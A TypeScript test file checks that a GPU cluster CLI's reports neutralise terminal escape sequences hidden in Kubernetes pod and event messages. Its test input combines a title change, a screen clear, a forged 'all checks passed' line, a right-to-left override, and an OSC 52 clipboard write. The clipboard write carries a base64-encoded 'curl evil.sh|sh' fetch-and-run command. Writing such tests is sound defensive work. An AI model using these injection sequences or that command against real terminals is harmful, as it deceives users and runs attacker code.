// Control characters from the cluster reach text and Markdown reports escaped (JUnit strips them, XML cannot
// hold them); JSON keeps them exactly.
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALL_CHECKS } from '../../checks/index.js';
import { runChecks } from '../../src/engine.js';
import { analyzeExecTree } from '../../src/facts/exec-tree.js';
import { Facts } from '../../src/facts/facts.js';
import { stackById } from '../../src/facts/injection.js';
import { renderExecTree } from '../../src/report/exec-tree.js';
import { renderJson } from '../../src/report/json.js';
import { renderJunit } from '../../src/report/junit.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { terminalSafe } from '../../src/report/safe.js';
import { renderText } from '../../src/report/text.js';
import { emptyCollection } from '../../src/sources/collection.js';
import { gpuctl } from '../helpers/cli.js';
import { pod } from '../helpers/facts.js';

const TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007';
const FORGED = '\n✓ all checks passed';
const HOSTILE = `${TITLE}${CLEAR}${CLIPBOARD}${FORGED}\u202e`;

function hostileReport() {
  const c = emptyCollection('test');
  c.objects.push(
    pod('ml', 'puller', {
      spec: { nodeName: 'gpu-1', containers: [{ name: 'c', image: 'nvcr.io/nvidia/cuda:12.2.0-base' }] },
      status: { phase: 'Pending', containerStatuses: [{ name: 'c', ready: false, restartCount: 0, image: 'x', state: { waiting: { reason: 'ImagePullBackOff', message: `Back-off pulling image ${HOSTILE}` } } }] },
    }),
    { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e1', namespace: 'ml' }, involvedObject: { kind: 'Pod', name: 'puller', namespace: 'ml' }, type: 'Warning', reason: 'Failed', message: `Failed to pull image: rpc error: ${HOSTILE}`, lastTimestamp: '2026-01-01T00:00:00Z' },
  );
  return runChecks(ALL_CHECKS, new Facts(c));
}

describe('terminal-safe reports', () => {
  it('escapes control characters in text and Markdown, strips them in JUnit, keeps them in JSON', () => {
    const report = hostileReport();
    expect(JSON.stringify(report.findings)).toContain(JSON.stringify(CLEAR).slice(1, -1));
    expect(renderJunit(report, 'warning')).not.toMatch(/[\u001b\u0007]/);
    for (const out of [renderText(report, { colour: false }), renderMarkdown(report)]) {
      expect(out).not.toMatch(/[\u001b\u0007\u202e]/);
      expect(out).toContain('\\x1b[2J');
      expect(out).not.toContain('\n✓ all checks passed');
    }
    expect(renderJson(report)).toContain('\\u001b]52;c;');
  });

  it('escapes a command line in the exec-check tree', () => {
    const analysis = analyzeExecTree([{ id: 1, pid: 1, argv: ['sh', '-c', `echo ${CLEAR}`], env: {} }], stackById('tensor-fusion'));
    const tree = renderExecTree(analysis, false);
    expect(tree).not.toContain('\u001b');
    expect(tree).toContain('\\x1b[2J');
  });

  it('terminalSafe', () => {
    expect(terminalSafe('plain\ttab')).toBe('plain\ttab');
    expect(terminalSafe('a\nb\r\u009b\u2066')).toBe('a\\nb\\r\\x9b\\u2066');
  });
});

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'gpuctl-tty-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

describe('through the CLI', () => {
  it('an event message with OSC 52 reaches the terminal escaped', async () => {
    await mkdir(path.join(dir, 'cluster'), { recursive: true });
    const report = hostileReport();
    expect(report.findings.some((f) => f.evidence.some((e) => e.includes(CLIPBOARD)))).toBe(true);
    await writeFile(
      path.join(dir, 'cluster', 'objects.json'),
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'List',
        items: [
          { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'puller', namespace: 'ml' }, spec: { nodeName: 'gpu-1', containers: [{ name: 'c', image: 'nvcr.io/nvidia/cuda:12.2.0-base' }] }, status: { phase: 'Pending', containerStatuses: [{ name: 'c', ready: false, restartCount: 0, image: 'x', imageID: '', state: { waiting: { reason: 'ImagePullBackOff', message: `Back-off pulling image ${HOSTILE}` } } }] } },
          { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e1', namespace: 'ml' }, involvedObject: { kind: 'Pod', name: 'puller', namespace: 'ml' }, type: 'Warning', reason: 'Failed', message: `Failed to pull image: ${HOSTILE}`, lastTimestamp: '2026-01-01T00:00:00Z' },
        ],
      }),
    );
    for (const format of ['text', 'wide', 'markdown']) {
      const r = await gpuctl(['doctor', '--snapshot', dir, '-o', format]);
      expect(r.stdout).not.toMatch(/[\u001b\u0007]/);
      // The default text report shows each root cause's first evidence line only, cut to the width.
      if (format !== 'text') expect(r.stdout).toContain('\\x1b]52;c;');
    }
  });
});
